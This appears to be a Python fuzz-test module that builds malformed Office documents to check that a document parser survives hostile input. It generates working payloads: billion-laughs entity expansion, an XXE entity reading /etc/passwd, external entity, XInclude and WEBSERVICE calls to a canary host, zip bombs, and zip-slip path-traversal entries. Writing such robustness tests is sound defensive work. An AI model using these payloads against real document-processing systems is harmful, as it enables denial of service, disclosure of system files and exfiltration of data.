"""Office packages written by hand to hurt their reader: bombs, entities, loops, sizes that are only said."""

import io
import struct
import zipfile
from collections.abc import Callable

from tests.fuzz.recipe import Kit, Make, Recipe
from tests.fuzz.seeds import SEEDS, odt, packed, prose

TEXT_PART = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml",
             "odt": "content.xml"}  # fmt: skip
LAUGHS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def members_of(kind: str, kit: Kit) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(SEEDS[kind](kit))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_part(kind: str, change: Callable[[bytes, Kit], bytes | str], part: str = "") -> Make:
    """A good package whose text part, or another one, is changed."""

    def make(kit: Kit) -> bytes:
        members = members_of(kind, kit)
        name = part or TEXT_PART[kind]
        changed = change(members.get(name, b""), kit)
        return packed(
            {**members, name: changed if isinstance(changed, bytes) else changed.encode(errors="surrogatepass")}
        )

    return make


def with_more(kind: str, parts: Callable[[Kit], dict[str, bytes]]) -> Make:
    return lambda kit: packed({**members_of(kind, kit), **parts(kit)})


def doctype(declared: str, use: str) -> Callable[[bytes, Kit], str]:
    def change(part: bytes, kit: Kit) -> str:
        text = part.decode()
        body = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
        end = body.rindex("</")
        kind = f"<!DOCTYPE d [{declared.replace('CANARY', kit.canary)}]>" if declared else ""
        return f"{kind}{body[:end]}{use.replace('CANARY', kit.canary)}{body[end:]}"

    return change


def document(body: str) -> str:
    return f"<w:document {W}><w:body>{body}</w:body></w:document>"


def sheet(body: str) -> str:
    return f"<worksheet {S}>{body}</worksheet>"


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def relation(part: bytes, kit: Kit) -> str:
    """Pictures, templates, sounds and frames that lie elsewhere."""
    more = "".join(
        f'<Relationship Id="evil{n}" Type="{RELATIONS}/{kind}" TargetMode="External" Target="{kit.canary}/{kind}"/>'
        for n, kind in enumerate(
            ["image", "attachedTemplate", "oleObject", "frame", "hyperlink", "subDocument", "video"]
        )
    )
    return part.decode().replace("</Relationships>", f"{more}</Relationships>")


def archives(depth: int) -> bytes:
    content = b"the innermost one"
    for number in range(depth):
        content = packed({f"{number}.zip": content})
    return content


def overlapping(kind: str) -> Make:
    """A directory of 20,000 entries that all are one and the same part of half a megabyte."""

    def make(kit: Kit) -> bytes:
        content = bytearray(packed({**members_of(kind, kit), "big.xml": b" " * 500_000}))
        start = content.rindex(b"PK\x01\x02")
        end = content.rindex(b"PK\x05\x06")
        entry = bytes(content[start:end])
        directory = int.from_bytes(content[end + 16 : end + 20], "little")
        copies = 20_000
        count = int.from_bytes(content[end + 10 : end + 12], "little") + copies
        size = end + copies * len(entry) - directory
        tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size, directory, 0)
        return bytes(content[:end]) + entry * copies + tail

    return make


def lying(kind: str) -> Make:
    """A part that unpacks to a hundred times what it says."""

    def make(kit: Kit) -> bytes:
        content = bytearray(packed({**members_of(kind, kit), TEXT_PART[kind]: b"<a>" + b" " * 30_000_000 + b"</a>"}))
        place = 0
        while (place := content.find(TEXT_PART[kind].encode(), place + 1)) > 0:
            for offset in (place - 22, place - 8):  # the size in the directory's entry, and in the part's own head
                if content[offset - 0 : offset + 4] == struct.pack("<I", 30_000_007):
                    content[offset : offset + 4] = struct.pack("<I", 3_000)
        return bytes(content)

    return make


def duplicated(kind: str) -> Make:
    """Two parts of one name: which one counts?"""

    def make(kit: Kit) -> bytes:
        out = io.BytesIO(SEEDS[kind](kit))
        with zipfile.ZipFile(out, "a") as archive:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                archive.writestr(TEXT_PART[kind], "<a>The salary of the director is 400,000 euros.</a>")
        return out.getvalue()

    return make


def climbing(kit: Kit) -> dict[str, bytes]:
    return {
        "../../../../tmp/evil.txt": b"x",
        "/etc/evil": b"x",
        "C:\\evil": b"x",
        "a\x00b": b"x",
        "word/../evil.xml": b"<a/>",
    }


def style_loop(part: bytes, kit: Kit) -> str:
    styles = '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>'
    return f"<w:styles {W}>{styles}</w:styles>"


ALL = ("docx", "xlsx", "pptx", "odt")
RECIPES = [
    *(Recipe(f"laughs.{kind}", "a billion laughs", with_part(kind, doctype(LAUGHS, "&l11;")), quick=kind == "docx") for kind in ALL),
    *(Recipe(f"xxe file.{kind}", "an entity that is a file", with_part(kind, doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"))) for kind in ALL),
    *(Recipe(f"xxe net.{kind}", "an entity that lies elsewhere", with_part(kind, doctype('<!ENTITY % p SYSTEM "CANARY/dtd"> %p; <!ENTITY x SYSTEM "CANARY/x">', "&x;")), quick=kind == "pptx") for kind in ALL),
    *(Recipe(f"include.{kind}", "XInclude", with_part(kind, doctype("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="CANARY/include" parse="text"/>'))) for kind in ALL),
    *(Recipe(f"bomb.{kind}", "a part of 300 MB", with_more(kind, lambda kit: {"media/big.bin": bytes(300 << 20)})) for kind in ("docx",)),
    *(Recipe(f"text bomb.{kind}", "250 MB of one element", with_part(kind, lambda part, kit: part.replace(b"</", b" " * (250 << 20) + b"</", 1))) for kind in ALL),
    *(Recipe(f"lying.{kind}", "a part larger than it says", lying(kind)) for kind in ALL),
    *(Recipe(f"overlap.{kind}", "20,000 entries on one part", overlapping(kind)) for kind in ALL),
    *(Recipe(f"twice.{kind}", "two parts of one name", duplicated(kind)) for kind in ALL),
    *(Recipe(f"climbing.{kind}", "parts with paths upwards", with_more(kind, climbing)) for kind in ALL),
    *(Recipe(f"nul.{kind}", "NUL bytes in XML", with_part(kind, lambda part, kit: part.replace(b"the", b"t\x00he"))) for kind in ALL),
    *(Recipe(f"encoding.{kind}", "another encoding than is said", with_part(kind, lambda part, kit: b'<?xml version="1.0" encoding="utf-16"?>' + part.split(b"?>", 1)[-1])) for kind in ALL),
    *(Recipe(f"nested.{kind}", "archives in archives", with_more(kind, lambda kit: {"inner.zip": archives(40), "word/embeddings/a.bin": archives(40)})) for kind in ALL),
    Recipe("nested.zip", "archives in archives", lambda kit: archives(60)),
    Recipe("relations.docx", "references to the outside", with_part("docx", relation, "word/_rels/document.xml.rels")),
    Recipe("relations.pptx", "references to the outside", with_part("pptx", relation, "ppt/slides/_rels/slide1.xml.rels")),
    Recipe("deep.docx", "tables 20,000 deep", with_part("docx", lambda part, kit: document("<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000))),
    Recipe("tables.docx", "tables 60 deep", with_part("docx", lambda part, kit: document("<w:tbl><w:tr><w:tc><w:p/>" * 60 + "<w:p><w:r><w:t>In the middle.</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 60))),
    Recipe("span.docx", "a cell over a billion columns", with_part("docx", lambda part, kit: document('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>Wide.</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'))),
    Recipe("styles.docx", "styles that are based on each other", with_part("docx", style_loop, "word/styles.xml")),
    Recipe("paragraphs.docx", "many paragraphs", with_part("docx", lambda part, kit: document("<w:p><w:r><w:t>One line.</w:t></w:r></w:p>" * 4_000)), ready=True),
    Recipe("cells.xlsx", "cells in the last row and column", with_part("xlsx", lambda part, kit: sheet(f'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">{cell("A1", "first")}</row><row r="1048576">{cell("XFD1048576", "last")}</row></sheetData>')), quick=True),
    Recipe("rows.xlsx", "cells far apart in every row", with_part("xlsx", lambda part, kit: sheet("<sheetData>" + "".join(f'<row r="{n}">{cell(f"XFD{n}", "x")}</row>' for n in range(1, 3_000)) + "</sheetData>"))),
    Recipe("merged.xlsx", "the whole sheet merged", with_part("xlsx", lambda part, kit: sheet(f'<sheetData><row r="1">{cell("A1", "all")}</row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'))),
    Recipe("columns.xlsx", "widths of all columns", with_part("xlsx", lambda part, kit: sheet("<cols>" + '<col min="1" max="16384" hidden="1"/>' * 2_000 + f'</cols><sheetData><row r="1">{cell("A1", "x")}</row></sheetData>'))),
    Recipe("numbers.xlsx", "numbers that are no dates", with_part("xlsx", lambda part, kit: sheet('<sheetData><row r="1"><c r="A1" s="1"><v>1e308</v></c><c r="B1" t="d"><v>99999-99-99</v></c><c r="C1" t="s"><v>99999999</v></c><c r="D1" t="b"><v>x</v></c><c r="E1" t="e"><v/></c><c r="F1"><v>NaN</v></c></row></sheetData>'))),
    Recipe("places.xlsx", "cells without a place", with_part("xlsx", lambda part, kit: sheet('<sheetData><row r="-1"><c r="A0"><v>1</v></c><c r="ZZZZZ9"><v>2</v></c><c><v>3</v></c></row></sheetData>'))),
    Recipe("formulas.xlsx", "formulas that call", with_part("xlsx", lambda part, kit: sheet(f'<sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("{kit.canary}/f")</f><v/></c><c r="B1"><f>{"(" * 5_000}1{")" * 5_000}</f></c></row></sheetData>'))),
    Recipe("strings.xlsx", "a count of strings that is a lie", with_part("xlsx", lambda part, kit: f'<sst {S} count="4294967295" uniqueCount="4294967295"><si><t>{prose(kit)}</t></si></sst>', "xl/sharedStrings.xml")),
    Recipe("repeated.odt", "a cell repeated a billion times", lambda kit: odt(kit, '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>again</text:p></table:table-cell></table:table-row></table:table>'), quick=True),
    Recipe("spaces.odt", "a billion blanks in one element", lambda kit: odt(kit, '<text:p>before<text:s text:c="1000000000"/>after</text:p>'), quick=True),
    Recipe("deep.odt", "sections 20,000 deep", lambda kit: odt(kit, "<text:section>" * 20_000 + "<text:p>in</text:p>" + "</text:section>" * 20_000)),
    Recipe("levels.odt", "a heading of the millionth level", lambda kit: odt(kit, '<text:h text:outline-level="1000000">High</text:h><text:h text:outline-level="-3">Low</text:h><text:p>x</text:p>')),
    Recipe("image.odt", "a picture that lies elsewhere", lambda kit: odt(kit, f'<text:p>Here.</text:p><draw:frame><draw:image xlink:href="{kit.canary}/image.png"/></draw:frame>')),
]  # fmt: skip
